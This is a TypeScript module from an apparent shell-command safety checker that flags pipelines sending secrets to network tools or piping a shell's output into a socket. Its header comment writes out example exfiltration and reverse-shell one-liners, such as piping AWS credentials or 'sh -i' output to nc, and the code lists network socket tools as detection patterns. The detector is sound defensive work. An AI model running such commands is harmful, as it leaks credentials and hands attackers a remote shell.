/**
 * Checks over a whole pipeline, where the danger is the pairing of stages
 * rather than one command: secrets piped to the network (`env | curl -d @-
 * URL`, `cat ~/.aws/credentials | base64 | nc HOST`) and a shell whose
 * output goes to a network tool (`sh -i 2>&1 | nc HOST PORT`).
 *
 * @module
 */

import type { Command, CommandNode } from "unbash";
import { stageWords } from "./command_producer.ts";
import { NETWORK_SENDERS, secretSource } from "./command_families.ts";
import { fileKey } from "./script_files.ts";
import type { EvalWord } from "./shell_words.ts";
import type { JudgeHost, Scope } from "./types.ts";

const SHELLS = /^(?:sh|bash|dash|zsh|ksh|mksh|ash|fish|busybox|pwsh|powershell)$/;
const SOCKETS = new Set(["nc", "ncat", "netcat", "socat", "telnet", "openssl", "cryptcat"]);

/**
 * The evaluated words of a pipeline stage after common wrappers, followed
 * through `xargs` and `parallel` (`... | xargs curl URL` sends with curl).
 *
 * @param node The stage.
 * @param scope The walk scope.
 * @returns Program and arguments, or null for compound stages.
 */
export function stageCommand(node: CommandNode, scope: Scope): EvalWord[] | null {
  if (node.type !== "Command") return null;
  const words = stageWords(node as Command, scope);
  const name = _base(words[0]?.values[0] ?? "");
  if (name === "xargs" || name === "parallel") {
    const at = words.findIndex((w, i) => i > 0 && NETWORK_SENDERS.has(_base(w.values[0] ?? "")));
    if (at > 0) return words.slice(at);
  }
  return words;
}

/**
 * Judge the pairings of a pipeline's stages.
 *
 * @param j The judge.
 * @param stages The stages, in order.
 * @param scope The walk scope.
 */
export function judgePipeline(j: JudgeHost, stages: readonly CommandNode[], scope: Scope): void {
  const words = stages.map((s) => stageCommand(s, scope));
  const names = words.map((w) => _base(w?.[0]?.values[0] ?? ""));
  const key = (p: string) => fileKey(scope, p);
  for (let i = 0; i < stages.length - 1; i++) {
    const w = words[i];
    if (!w) continue;
    const later = names.slice(i + 1);
    const sender = later.find((n) => NETWORK_SENDERS.has(n));
    const source = sender ? secretSource(w, scope.secretFiles, key) : null;
    if (sender && source) {
      j.hitCheck("exfiltration", `${source} piped to ${sender}`, scope);
      return;
    }
    const socket = later.find((n) => SOCKETS.has(n));
    if (socket && SHELLS.test(names[i]!)) {
      j.hitCheck("reverse-shell", `the output of ${names[i]} piped to ${socket}`, scope);
      return;
    }
  }
}

function _base(p: string): string {
  return p.slice(p.lastIndexOf("/") + 1);
}
